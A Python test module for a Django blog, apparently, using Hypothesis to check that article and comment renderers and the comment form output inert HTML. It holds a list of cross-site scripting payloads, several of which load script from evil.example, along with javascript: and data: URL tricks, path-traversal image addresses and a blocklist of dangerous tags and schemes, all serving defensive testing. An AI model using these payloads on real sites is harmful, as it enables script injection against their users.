"""Properties of everything that turns typed text into HTML, checked on text Hypothesis makes up.

Whatever an editor or a commenter types (any Unicode, control characters, NUL,
half-finished markup, the fragments attackers use), the renderers answer with
HTML that, read by a parser the way a browser reads it, holds no script, no
event handler, no style and no script URL; and the comment form answers every
post with a saved comment or with the form again, the reader's text kept.
"""

import re
from html.parser import HTMLParser

import hypothesis
import pytest
from bs4 import BeautifulSoup
from django.core.cache import cache
from django.test import Client
from django.urls import reverse
from django.utils.html import escape
from hypothesis import HealthCheck, example, given
from hypothesis import strategies as st

from articles.rendering import render_markdown, render_preview
from comments.fields import CONTROL_IN_LINE, CONTROL_IN_TEXT
from comments.models import Comment
from comments.rendering import render_comment_text
from tests.factories import comment_data, make_article
from tests.html import assert_inert, elements

# Every request and the database carry UTF-8, which has no lone surrogates: only
# those are left out, so control characters, NUL and unassigned code points come up.
ANY_CHARACTER = st.characters(codec="utf-8")

HOSTILE_FRAGMENTS = [
    # Markup that runs script or loads something.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x.swf></object>",
    "<embed src=x.swf>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<a href="#" onclick="alert(1)">click</a>',
    "<details open ontoggle=alert(1)>",
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button>',
    '<img srcset="javascript:alert(1) 1x, x.png 2x">',
    # Script URLs, in Markdown and in HTML, disguised.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<javascript:alert(1)>",
    "<https://example.com/fine>",
    "[x][evil]\n\n[evil]: javascript:alert(1)\n",
    '[y]: data:text/html,<script>alert(1)</script> "title"\n\n[y]\n',
    '{: onclick="alert(1)" style="color:red" href="javascript:alert(1)" }',
    "![x](/media/missing.jpg)",
    "![x](/media/",
    "../",
    # Where parsers disagree about where markup starts and ends.
    "<!--",
    "-->",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<![CDATA[",
    "]]>",
    "<?xml ?>",
    '"><script>alert(1)</script>',
    "</textarea><script>alert(1)</script>",
    "`<script>`",
    "```html\n<script>alert(1)</script>\n```\n",
    "&lt;script&gt;",
    "&#60;script&#62;",
    # Comment syntax: links and spoilers.
    "||<script>alert(1)</script>||",
    "||",
    'https://example.com/"onmouseover="alert(1)',
    "www.example.com/<script>",
    "(https://example.com/a_(b))",
    # Structure, and characters with a meaning somewhere.
    "\n",
    "\n\n",
    "\r\n",
    "    ",
    "# ",
    "## ",
    "> ",
    "- ",
    "1. ",
    "| a | b |\n|---|---|\n| <b>c</b> | d |\n",
    "*[HTML]: Hyper <script>\n",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>\n",
    '<div markdown="1">*x*</div>',
    "<",
    ">",
    "&",
    '"',
    "'",
    "\x00",
    "\x02wzxhzdk:0\x03",
    "\u2028",
    "\u202e",
    "\ufeff",
]


def hostile_text(
    max_pieces: int = 12,
    characters: st.SearchStrategy[str] = ANY_CHARACTER,
    fragments: list[str] = HOSTILE_FRAGMENTS,
) -> st.SearchStrategy[str]:
    """Arbitrary text and attackers' fragments, in any order."""
    piece = st.one_of(st.sampled_from(fragments), st.text(characters, max_size=12))
    return st.lists(piece, max_size=max_pieces).map("".join)


# What a browser forbids a page to run, load or be restyled by, in addition to assert_inert.
FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "style", "link", "base", "meta", "svg", "math",
    "form", "input", "button", "textarea", "frame", "frameset", "template", "applet",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "srcset", "action", "formaction", "xlink:href", "poster", "data",
    "background", "cite",
}  # fmt: skip
SCRIPT_SCHEMES = {"javascript", "vbscript", "data"}
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)


def url_scheme(url: str) -> str:
    """The scheme a browser reads: it strips spaces and controls around, tabs and newlines in."""
    url = re.sub(r"[\t\n\r]", "", url.strip("".join(map(chr, range(0x21)))))
    match = _SCHEME.match(url)
    return match.group(1).lower() if match else ""


def urls_in(name: str, value: str) -> list[str]:
    if name == "srcset":
        return [candidate.split()[0] for candidate in value.split(",") if candidate.split()]
    return [value]


def assert_fragment_inert(html: str) -> None:
    """assert_inert, made strict for a rendered body or comment: no script, style or data URL."""
    assert_inert(html)
    assert "<script" not in html.lower()  # even where a parser and a browser might disagree
    for tag, attrs in elements(html):
        assert tag not in FORBIDDEN_TAGS, f"<{tag} {attrs}>"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"<{tag} {name}={value!r}>"
            assert name != "style", f"<{tag} style={value!r}>"
            if name in URL_ATTRIBUTES:
                for url in urls_in(name, value or ""):
                    assert url_scheme(url) not in SCRIPT_SCHEMES, f"<{tag} {name}={value!r}>"


def body_html(text: str) -> str:
    return render_markdown(text).html


@pytest.mark.parametrize("render", [body_html, render_preview])
@hypothesis.settings(max_examples=500, deadline=None)
@given(text=hostile_text())
def test_any_article_body_renders_to_inert_html(render, text):
    assert_fragment_inert(render(text))


@pytest.mark.parametrize(
    "source",
    ["![](/media/..)", "![x](/media/../x)", "![x](/media//etc/passwd)", "![x](/media/%2e%2e/x)"],
)
def test_an_image_address_that_leaves_the_media_folder_renders_as_a_plain_image(source):
    # Found by the property above: the storage refuses such a path, and the renderer
    # once let that refusal escape, so such an article could not even be saved.
    html = render_markdown(source).html

    assert_fragment_inert(html)
    assert "<picture>" not in html
    assert "<img " in html  # the plain image is still there


COMMENT_TAGS = {"p", "div", "span", "br", "a", "details", "summary", "blockquote"}
PARAGRAPH_ANCHOR = st.from_regex(r"p-[0-9a-f]{8}(-[0-9])?", fullmatch=True)


@hypothesis.settings(max_examples=500, deadline=None)
@given(
    text=hostile_text(),
    spoilers=st.booleans(),
    quote=st.one_of(st.just(""), hostile_text(max_pieces=3)),
    quote_anchor=st.one_of(st.just(""), PARAGRAPH_ANCHOR, hostile_text(max_pieces=2)),
)
def test_any_comment_renders_to_inert_html(text, spoilers, quote, quote_anchor):
    html = render_comment_text(text, spoilers=spoilers, quote=quote, quote_anchor=quote_anchor)

    assert_fragment_inert(html)


@hypothesis.settings(max_examples=500, deadline=None)
@given(text=hostile_text())
@example(text="HTTP://[x](javascript:alert(1))")  # once an <a> without an address
def test_a_comment_holds_only_its_own_few_tags_and_nofollow_web_links(text):
    for tag, attrs in elements(render_comment_text(text)):
        assert tag in COMMENT_TAGS, f"<{tag} {attrs}>"
        if tag == "div":  # a paragraph holding a spoiler, nothing else
            assert attrs == {"class": "para"}, attrs
        if tag == "a":
            assert url_scheme(attrs["href"]) in {"http", "https"}, attrs
            assert {"nofollow", "ugc"} <= set(attrs["rel"].split()), attrs


class _TextCollector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.parts = []

    def handle_data(self, data):
        self.parts.append(data)


def shown_text(html: str) -> str:
    """What a reader sees of a piece of HTML, entities decoded."""
    collector = _TextCollector()
    collector.feed(html)
    collector.close()
    return "".join(collector.parts)


@hypothesis.settings(max_examples=500, deadline=None)
@given(text=hostile_text(), spoilers=st.booleans())
def test_every_bracket_ampersand_and_quote_a_commenter_types_is_shown_as_text(text, spoilers):
    shown = shown_text(render_comment_text(text, spoilers=spoilers))

    for character in "<>&\"'":
        assert shown.count(character) == text.count(character), character


# The comment form, end to end: a fresh article and browser per example, the
# address limits lifted (every example posts from 127.0.0.1) and the first comment
# not held, so that approved comments reach the thread and the page's JSON-LD.
ANY_POST = st.fixed_dictionaries(
    {
        "text": hostile_text(),
        "name": st.one_of(st.sampled_from(["Vincent", "Neil McCauley"]), hostile_text(4)),
        "email": st.one_of(
            st.just("vincent@example.com"),
            st.emails(),
            hostile_text(3).map(lambda s: f"{s}@example.com"),
        ),
        "website": st.one_of(
            st.sampled_from(["", "javascript:alert(1)", "data:text/html,x", "//evil.example"]),
            hostile_text(3).map(lambda s: f"https://example.com/{s}"),
            hostile_text(3),
        ),
    },
    optional={"has_spoilers": st.just("on")},
)
# A post the form accepts (most of ANY_POST is refused): no control characters but
# line breaks and tabs in the comment, none (nor line or direction marks) in a name.
TYPABLE = st.characters(codec="utf-8", exclude_categories=["Cc", "Cf", "Zl", "Zp"])
ONE_LINE_FRAGMENTS = [fragment for fragment in HOSTILE_FRAGMENTS if fragment.isprintable()]
TEXT_FRAGMENTS = [
    fragment for fragment in HOSTILE_FRAGMENTS if re.sub(r"[\t\n\r]", "", fragment).isprintable()
]
ACCEPTABLE_POST = st.fixed_dictionaries(
    {
        "text": hostile_text(characters=TYPABLE, fragments=TEXT_FRAGMENTS).filter(str.strip),
        "name": hostile_text(4, TYPABLE, ONE_LINE_FRAGMENTS).filter(str.strip),
        "email": st.just("vincent@example.com"),
        "website": st.one_of(
            st.just(""),
            hostile_text(3, TYPABLE, ONE_LINE_FRAGMENTS).map(lambda s: f"https://example.com/{s}"),
        ),
    },
    optional={"has_spoilers": st.just("on")},
)
FORM_PAGE_STATUSES = {200, 403, 429}
# Each example makes its own article and browser; the database fixture is the test's.
DATABASE_EXAMPLES = hypothesis.settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


def _allow_many_posts(settings) -> None:
    settings.COMMENTS_FLOOD_SECONDS = 0
    settings.COMMENTS_HOURLY_LIMIT = 0
    settings.COMMENTS_ATTEMPTS_PER_MINUTE = 0
    settings.COMMENTS_FIRST_TIME_HELD = False


def _fresh_article():
    """A new article, and an empty cache: no counter or page left by an earlier example."""
    cache.clear()
    return make_article()


def _post(browser, article, fields: dict):
    return browser.post(
        reverse("comments:post", args=[article.slug]), comment_data(article, **fields)
    )


def _scripts(page: str) -> list[dict]:
    """The page's script elements, without the nonce each response draws afresh."""
    return [
        {name: value for name, value in attrs.items() if name != "nonce"}
        for tag, attrs in elements(page)
        if tag == "script"
    ]


def _shown_back(page: str) -> dict[str, str]:
    """What the re-displayed form holds, read as a browser reads it."""
    soup = BeautifulSoup(page, "html.parser")
    textarea = soup.find("textarea", attrs={"name": "text"})
    if textarea is None:  # comments closed: the text is kept below the notice
        return {"text": soup.find("pre", class_="kept-text").get_text()}
    # A browser drops the newline that starts a textarea's content.
    shown = {"text": textarea.get_text().removeprefix("\n")}
    form = soup.find("form", id="comment-form")  # not the "Follow by email" form's address
    for name in ("name", "email", "website"):
        shown[name] = form.find("input", attrs={"name": name}).get("value", "")  # none: empty
    return shown


@DATABASE_EXAMPLES
@given(fields=st.one_of(ANY_POST, ACCEPTABLE_POST))
def test_any_post_is_saved_or_shown_back_escaped_in_the_form(db, settings, fields):
    _allow_many_posts(settings)

    article = _fresh_article()

    response = _post(Client(), article, fields)

    hypothesis.event(f"answered {response.status_code}")
    if response.status_code == 302:
        assert Comment.objects.filter(article=article).count() == 1
        return
    assert response.status_code in FORM_PAGE_STATUSES
    page = response.content.decode()
    assert_inert(page)
    for name, value in _shown_back(page).items():
        # Everything typed, but for invisible control characters (refused, with a message).
        refused = CONTROL_IN_TEXT if name == "text" else CONTROL_IN_LINE
        assert value == refused.sub("", fields[name]), name


@DATABASE_EXAMPLES
@given(fields=ACCEPTABLE_POST)
def test_the_article_page_stays_inert_whatever_a_commenter_posts(db, settings, fields):
    _allow_many_posts(settings)
    article, browser = _fresh_article(), Client()
    first = browser.get(article.get_absolute_url())
    assert first.status_code == 200
    before = _scripts(first.content.decode())

    _post(browser, article, fields)
    response = browser.get(article.get_absolute_url())
    assert response.status_code == 200
    page = response.content.decode()

    assert_inert(page)
    assert _scripts(page) == before
    for comment in Comment.objects.filter(article=article).exclude(status=Comment.Status.SPAM):
        hypothesis.event(f"comment {comment.status} on the page")
        # The checks above read the commenter's words, not a page without them.
        assert comment.text_html in page
        assert escape(comment.name) in page
